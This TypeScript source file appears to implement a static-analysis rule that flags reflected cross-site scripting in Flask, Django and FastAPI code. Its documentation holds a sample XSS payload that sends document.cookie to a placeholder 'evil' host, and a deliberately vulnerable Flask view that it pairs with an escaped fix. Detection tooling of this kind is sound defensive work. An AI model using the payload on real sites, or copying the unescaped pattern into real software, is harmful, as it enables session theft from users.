import { createTaintRule, type SinkArgument } from '../taint-rule.js';
import type { RuleContext } from '../../core/context.js';
import type { SyntaxNode } from '../../python/parser.js';
import { argument, keywordArg, stringValue, unparen } from '../../python/ast.js';
import { MARKERS } from './unescaped-markup.js';
import { importsPackage } from '../../python/module-info.js';

/** Responses whose body is served as HTML unless another content type is given. */
const RESPONSES: Record<string, { body: string; typeKeywords: string[] }> = {
  'flask.make_response': { body: 'args', typeKeywords: [] },
  'flask.Response': { body: 'response', typeKeywords: ['mimetype', 'content_type'] },
  'werkzeug.wrappers.Response': { body: 'response', typeKeywords: ['mimetype', 'content_type'] },
  'werkzeug.Response': { body: 'response', typeKeywords: ['mimetype', 'content_type'] },
  'django.http.HttpResponse': { body: 'content', typeKeywords: ['content_type'] },
  'django.http.response.HttpResponse': { body: 'content', typeKeywords: ['content_type'] },
  'starlette.responses.HTMLResponse': { body: 'content', typeKeywords: [] },
  'fastapi.responses.HTMLResponse': { body: 'content', typeKeywords: [] },
};

function nonHtmlType(ctx: RuleContext, call: SyntaxNode, keywords: string[]): boolean {
  for (const k of keywords) {
    const v = keywordArg(call, k);
    if (!v) continue;
    const s = stringValue(unparen(v));
    // A type we cannot read may be anything: stay silent.
    return s === null || !/html/i.test(s);
  }
  return false;
}

/** A string built from a literal that contains markup: `f"<p>{x}</p>"`, `"<b>" + x`. */
function htmlTemplate(node: SyntaxNode): boolean {
  const n = unparen(node);
  if (n.type === 'string') return /<[a-zA-Z!/]/.test(n.text) && n.namedChildren.some((c) => c.type === 'interpolation');
  if (n.type === 'binary_operator') {
    const l = n.childForFieldName('left');
    const r = n.childForFieldName('right');
    return [l, r].some((c) => c !== null && (/^[rbuRBU]*["']/.test(c.text) ? /<[a-zA-Z!/]/.test(c.text) : htmlTemplate(c)));
  }
  if (n.type === 'call') {
    const fn = n.childForFieldName('function');
    const obj = fn?.type === 'attribute' ? fn.childForFieldName('object') : null;
    return fn?.childForFieldName('attribute')?.text === 'format' && obj !== null && /<[a-zA-Z!/]/.test(obj.text);
  }
  return false;
}

/** Inside a Flask view: a function decorated with `@<something>.route(...)`/`.get(...)`... */
function inFlaskView(ret: SyntaxNode): boolean {
  let fn: SyntaxNode | null = ret.parent;
  while (fn && fn.type !== 'function_definition') fn = fn.parent;
  const dec = fn?.parent;
  if (dec?.type !== 'decorated_definition') return false;
  return dec.namedChildren.some((d) => d.type === 'decorator' && /\.(?:route|get|post|put|patch|delete)\s*\(/.test(d.text));
}

/**
 * A `return` can only be reported when its value holds markup (`htmlTemplate` tests these same
 * characters on parts of the statement's text).
 */
const MARKUP = /<[a-zA-Z!/]/;

export default createTaintRule({
  kind: 'xss',
  meta: {
    id: 'reflected-xss',
    area: 'secure-coding',
    summary: 'Attacker-controlled input is sent back as HTML without escaping (cross-site scripting).',
    severity: 'high',
    confidence: 'high',
    cwe: ['CWE-79'],
    owasp: ['A03:2021'],
    messages: {
      tainted:
        'Cross-site scripting: {{source}} reaches `{{sink}}` unescaped; a `<script>` in that input runs in the victim\'s browser with their session. Render it through a template or escape it.',
    },
    docs: {
      whatItDoes:
        'Follows attacker-controlled data into HTML that bypasses template escaping: `Markup()`/`mark_safe()`/`SafeString()`, response bodies of `make_response()`, `Response()`, `HttpResponse()` and `HTMLResponse()` (unless a non-HTML content type is set), and HTML strings returned directly from Flask views (`return f"<p>{name}</p>"`). Values escaped with `html.escape()`/`markupsafe.escape()`, converted to numbers or checked against an allow-list are not flagged; neither is data rendered through a template with autoescaping.',
      whyBad:
        'A link such as `/search?q=<script>fetch("//evil/?c="+document.cookie)</script>` makes the victim\'s browser run the attacker\'s script on your origin: it can read the page, act with the user\'s session and steal tokens.',
      example:
        'from flask import Flask, request\n\napp = Flask(__name__)\n\n@app.route("/search")\ndef search():\n    q = request.args.get("q", "")\n    return f"<h1>Results for {q}</h1>"',
      useInstead:
        'from flask import Flask, request, render_template_string\nfrom markupsafe import escape\n\napp = Flask(__name__)\n\n@app.route("/search")\ndef search():\n    q = request.args.get("q", "")\n    return f"<h1>Results for {escape(q)}</h1>"\n    # or: render_template_string("<h1>Results for {{ q }}</h1>", q=q)',
      fixSafety: 'No automatic fix: whether to escape or to move the markup into a template is a design choice.',
      references: [
        'https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html',
        'https://flask.palletsprojects.com/en/stable/security/#cross-site-scripting-xss',
        'https://docs.djangoproject.com/en/stable/ref/utils/#django.utils.safestring.mark_safe',
      ],
    },
    fixable: false,
  },
  textFilters: { return_statement: (text: string) => MARKUP.test(text) },
  callFilter: (name) => name !== null && (Object.hasOwn(MARKERS, name) || Object.hasOwn(RESPONSES, name)),
  sinks(ctx, call) {
    const name = ctx.calleeName(call);
    if (!name) return [];
    const out: SinkArgument[] = [];
    const marker = MARKERS[name];
    if (marker) {
      const v = argument(call, 0, marker);
      if (v) out.push({ node: v, sink: `${name.split('.').pop() ?? name}()` });
      return out;
    }
    const resp = RESPONSES[name];
    if (resp && !nonHtmlType(ctx, call, resp.typeKeywords)) {
      const body = argument(call, 0, resp.body);
      // make_response(dict) / Response(json.dumps(...)): JSON is not HTML. Only strings count.
      if (body && !['dictionary', 'list'].includes(unparen(body).type)) {
        out.push({ node: body, sink: `${name.split('.').pop() ?? name}()` });
      }
    }
    return out;
  },
  visitors(ctx, check) {
    return {
      return_statement(node) {
        const value = node.namedChildren.find((c) => c.type !== 'comment');
        if (!value || !importsPackage(ctx, 'flask')) return;
        const v = unparen(value);
        const body = v.type === 'tuple' || v.type === 'expression_list' ? v.namedChildren[0] : value;
        if (!body || !htmlTemplate(body) || !inFlaskView(node)) return;
        check({ node: body, sink: 'the view\'s HTML response' });
      },
    };
  },
});
